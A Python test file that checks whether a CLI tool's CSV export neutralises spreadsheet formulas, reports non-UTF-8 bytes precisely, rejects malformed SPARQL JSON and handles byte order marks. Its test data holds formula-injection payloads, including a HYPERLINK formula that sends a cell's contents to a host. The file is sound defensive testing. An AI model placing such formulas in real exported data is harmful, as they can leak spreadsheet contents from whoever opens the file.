"""Hostile input through the real CLI (``python -m rolegraph`` as a subprocess): issue 21, item 8.

* Spreadsheet formulas in the data never reach a CSV file people open in a spreadsheet as formulas.
* A file that is not UTF-8 is named with the offending byte's value, byte offset, line and column.
* Valid JSON of the wrong shape (a SPARQL endpoint's answer, a query's quoted default) is one ``Error:``
  line, exit 2, never an internal error (exit 70).
* A UTF-8 byte order mark is read the same way by every reader: ``validate``, ``roles``, ``load``.
"""
from __future__ import annotations

import csv
import http.server
import io
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
MINI = ROOT / "tests" / "fixtures" / "mini" / "framework.ttl"
CSV_DIR = ROOT / "tests" / "fixtures" / "csv"
BOM = b"\xef\xbb\xbf"


def run(args: list[str], cwd: Path, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "LC_ALL": "C.UTF-8",
           "XDG_CACHE_HOME": str(cwd / ".cache"), "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "rolegraph", *args], cwd=cwd, input=stdin, capture_output=True,
                          env=env, timeout=300)


def one_error(p: subprocess.CompletedProcess, code: int = 2) -> str:
    """The single ``Error:`` line of a failed run (exit *code*, no traceback)."""
    err = p.stderr.decode("utf-8", "replace")
    assert p.returncode == code, (p.returncode, err)
    assert "Traceback" not in err and "internal error" not in err, err
    lines = [x for x in err.splitlines() if x.startswith("Error:")]
    assert len(lines) == 1, err
    return lines[0]


# ------------------------------------------------------------------------- spreadsheet formulas

HOSTILE_LABELS = {
    "Junior tester": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
    "Senior tester": "-2+3",
    "Chief tester": "@SUM(1)",
}


def test_csv_export_turns_formulas_into_text(tmp_path):
    data = MINI.read_text(encoding="utf-8")
    for old, new in HOSTILE_LABELS.items():
        data = data.replace(f'"{old}"@en', '"' + new.replace("\\", "\\\\").replace('"', '\\"') + '"@en')
    (tmp_path / "hostile.ttl").write_text(data, encoding="utf-8")
    p = run(["--data", "hostile.ttl", "export", "--format", "csv", "-o", "sim.csv"], tmp_path)
    assert p.returncode == 0, p.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "sim.csv").read_text(encoding="utf-8"))))
    labels = rows[0][1:]
    assert sorted(labels) == sorted("'" + v for v in HOSTILE_LABELS.values())
    assert sorted(r[0] for r in rows[1:]) == sorted(labels)
    for r in rows[1:]:
        assert all(0.0 <= float(c) <= 1.0 for c in r[1:])   # the similarities stay numbers
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_csv_export_keeps_a_numeric_label_a_number(tmp_path):
    """A label that is a plain number cannot be a formula: it is kept as it is (the choice the docs name)."""
    data = MINI.read_text(encoding="utf-8").replace('"Senior tester"@en', '"-0.5"@en')
    (tmp_path / "n.ttl").write_text(data, encoding="utf-8")
    p = run(["--data", "n.ttl", "export", "--format", "csv"], tmp_path)
    assert p.returncode == 0, p.stderr
    header = next(csv.reader(io.StringIO(p.stdout.decode("utf-8"))))
    assert "-0.5" in header and "'-0.5" not in header


# ------------------------------------------------------------------------- not UTF-8

def _bad_turtle(bom: bool, pad: int = 0) -> tuple[bytes, int]:
    """The mini framework with 0xE9 inside a label (after *pad* bytes of comment lines); its offset."""
    text = MINI.read_bytes()
    filler = b"".join(b"# " + b"x" * 97 + b"\n" for _ in range(pad // 100))
    at = text.index(b'"Junior tester"') + len(b'"Junior')
    data = (BOM if bom else b"") + filler + text[:at] + b"\xe9" + text[at:]
    return data, (3 if bom else 0) + len(filler) + at


def _expect_byte(line: str, data: bytes, offset: int) -> None:
    assert data[offset] in (0xE9, 0xFF, 0xC3)
    m = re.search(r"byte 0x([0-9a-f]{2}) at byte offset (\d+) \(line (\d+), column (\d+)", line)
    assert m, line
    assert int(m.group(1), 16) == data[offset] and int(m.group(2)) == offset
    assert int(m.group(3)) == data[:offset].count(b"\n") + 1
    start = data.rfind(b"\n", 0, offset) + 1
    assert int(m.group(4)) == len(data[start:offset].decode("utf-8").lstrip("\ufeff")) + 1


@pytest.mark.parametrize("bom", [False, True], ids=["plain", "bom"])
@pytest.mark.parametrize("command", ["validate", "roles", "roles-rdflib", "load"])
def test_not_utf8_turtle_names_the_byte(tmp_path, command, bom):
    data, offset = _bad_turtle(bom)
    (tmp_path / "bad.ttl").write_bytes(data)
    args = {"validate": ["validate", "bad.ttl"], "roles": ["--data", "bad.ttl", "roles"],
            "roles-rdflib": ["--backend", "rdflib", "--data", "bad.ttl", "roles"],
            "load": ["--store", "st", "load", "bad.ttl"]}[command]
    line = one_error(run(args, tmp_path))
    assert "bad.ttl" in line
    _expect_byte(line, data, offset)
    if command == "load":
        assert not (tmp_path / "st").exists() or not any((tmp_path / "st").iterdir())


@pytest.mark.parametrize("command", ["validate", "load"])
def test_not_utf8_past_the_first_megabyte(tmp_path, command):
    """Streamed readers (``load``, validation's re-read) find the byte in a later chunk at the right offset."""
    data, offset = _bad_turtle(True, pad=1_500_000)
    (tmp_path / "big.ttl").write_bytes(data)
    args = ["validate", "big.ttl"] if command == "validate" else ["--store", "st", "load", "big.ttl"]
    _expect_byte(one_error(run(args, tmp_path)), data, offset)


def test_not_utf8_in_a_comment_is_refused_too(tmp_path):
    text = MINI.read_bytes()
    data = text.replace(b"\n", b"\n# caf\xe9\n", 1)
    (tmp_path / "c.ttl").write_bytes(data)
    for args in (["validate", "c.ttl"], ["--data", "c.ttl", "roles"], ["--store", "st", "load", "c.ttl"]):
        _expect_byte(one_error(run(args, tmp_path)), data, data.index(b"\xe9"))


@pytest.mark.parametrize("bom", [False, True], ids=["plain", "bom"])
def test_not_utf8_query_file_and_stdin(tmp_path, bom):
    data = (BOM if bom else b"") + b'SELECT * WHERE {\n  ?s ?p "caf\xc3\x28" }\n'
    offset = data.index(b"\xc3")
    (tmp_path / "q.rq").write_bytes(data)
    line = one_error(run(["query", "q.rq"], tmp_path))
    assert "q.rq" in line
    _expect_byte(line, data, offset)
    line = one_error(run(["query", "-"], tmp_path, stdin=data))
    assert "standard input" in line
    _expect_byte(line, data, offset)


def test_not_utf8_renames_and_import_csv(tmp_path):
    renames = BOM + b"old,new\nTester,Test engineer\nJunior \xff,x\n"
    (tmp_path / "renames.csv").write_bytes(renames)
    line = one_error(run(["diff", str(ROOT / "data"), "--renames", "renames.csv"], tmp_path))
    assert "renames.csv" in line
    _expect_byte(line, renames, renames.index(b"\xff"))
    roles = (CSV_DIR / "roles.csv").read_bytes()
    at = roles.index(b"\n", roles.index(b"\n") + 1) + 5          # inside the second data line
    bad = roles[:at] + b"\xe9" + roles[at:]
    (tmp_path / "roles.csv").write_bytes(bad)
    line = one_error(run(["import", "roles.csv", str(CSV_DIR / "skills.csv"), "-o", "out"], tmp_path))
    assert "roles.csv" in line
    _expect_byte(line, bad, at)
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------- JSON of the wrong shape

WRONG_SHAPES = [
    "[]", "1", '"x"', "null", '{"head": 1, "results": {"bindings": []}}',
    '{"head": {"vars": ["n"]}, "results": []}', '{"head": {"vars": "n"}, "results": {"bindings": []}}',
    '{"head": {"vars": ["n"]}, "results": {"bindings": [1]}}',
    '{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": 3}]}}',
    '{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": {"type": 3, "value": "x"}}]}}',
    '{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": {"type": "literal", "value": 5}}]}}',
    '{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": {"type": "galaxy", "value": "x"}}]}}',
    '{"boolean": "yes"}',
]


@pytest.fixture(scope="module")
def endpoint():
    """A SPARQL endpoint on loopback answering every request with the JSON body set in ``body[0]``."""
    body = [b"{}"]

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            self.send_header("Content-Type", "application/sparql-results+json")
            self.send_header("Content-Length", str(len(body[0])))
            self.end_headers()
            self.wfile.write(body[0])

        do_GET = do_POST

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/sparql", body
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("answer", WRONG_SHAPES)
def test_endpoint_json_of_the_wrong_shape(tmp_path, endpoint, answer):
    url, body = endpoint
    body[0] = answer.encode()
    (tmp_path / "s.rq").write_text("SELECT ?n WHERE { ?n ?p ?o }\n", encoding="utf-8")
    line = one_error(run(["--endpoint", url, "query", "s.rq"], tmp_path))
    assert url in line and "not SPARQL JSON results" in line


@pytest.mark.parametrize("default", ['"abc', '"a\\qb"'])
def test_query_default_that_is_not_a_json_string(tmp_path, default):
    (tmp_path / "d.rq").write_text(f"# title: t\n# param x string default {default}: a value\n"
                                   "SELECT * WHERE { ?s ?p ?x } LIMIT 1\n", encoding="utf-8")
    line = one_error(run(["query", "d.rq"], tmp_path))
    assert "d.rq:2" in line and "default" in line


# ------------------------------------------------------------------------- byte order mark

def test_bom_is_read_the_same_by_validate_roles_and_load(tmp_path):
    (tmp_path / "plain.ttl").write_bytes(MINI.read_bytes())
    (tmp_path / "bom.ttl").write_bytes(BOM + MINI.read_bytes())
    for args in (["validate", "{f}", "--format", "json"], ["--data", "{f}", "roles"],
                 ["--backend", "rdflib", "--data", "{f}", "roles"]):
        plain = run([a.format(f="plain.ttl") for a in args], tmp_path)
        bom = run([a.format(f="bom.ttl") for a in args], tmp_path)
        assert bom.returncode == plain.returncode == 0, bom.stderr
        assert bom.stdout.replace(b"bom.ttl", b"plain.ttl") == plain.stdout
    p = run(["--store", "st", "load", "bom.ttl"], tmp_path)
    assert p.returncode == 0, p.stderr
    assert b"0 violations" in p.stdout
    roles = run(["--store", "st", "roles"], tmp_path)
    assert roles.returncode == 0 and b"Tester" in roles.stdout


def test_bom_in_shapes_file(tmp_path):
    (tmp_path / "shapes.ttl").write_bytes(BOM + (ROOT / "ontology" / "shapes.ttl").read_bytes())
    bom = run(["validate", "--shapes", "shapes.ttl", "--format", "json"], tmp_path)
    plain = run(["validate", "--format", "json"], tmp_path)
    assert bom.returncode == plain.returncode == 0, bom.stderr
    assert bom.stdout == plain.stdout


def test_endpoint_answers_of_the_right_shape_still_work(tmp_path, endpoint):
    url, body = endpoint
    (tmp_path / "s.rq").write_text("SELECT ?n WHERE { ?n ?p ?o }\n", encoding="utf-8")
    (tmp_path / "a.rq").write_text("ASK { ?n ?p ?o }\n", encoding="utf-8")
    body[0] = b'{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": {"type": "uri", "value": "http://x.org/a"}}]}}'
    p = run(["--endpoint", url, "query", "s.rq", "--format", "csv"], tmp_path)
    assert p.returncode == 0, p.stderr
    assert p.stdout.split() == [b"n", b"http://x.org/a"]
    body[0] = b'{"head": {}, "boolean": true}'
    p = run(["--endpoint", url, "query", "a.rq"], tmp_path)
    assert p.returncode == 0 and p.stdout == b"true\n", p.stderr
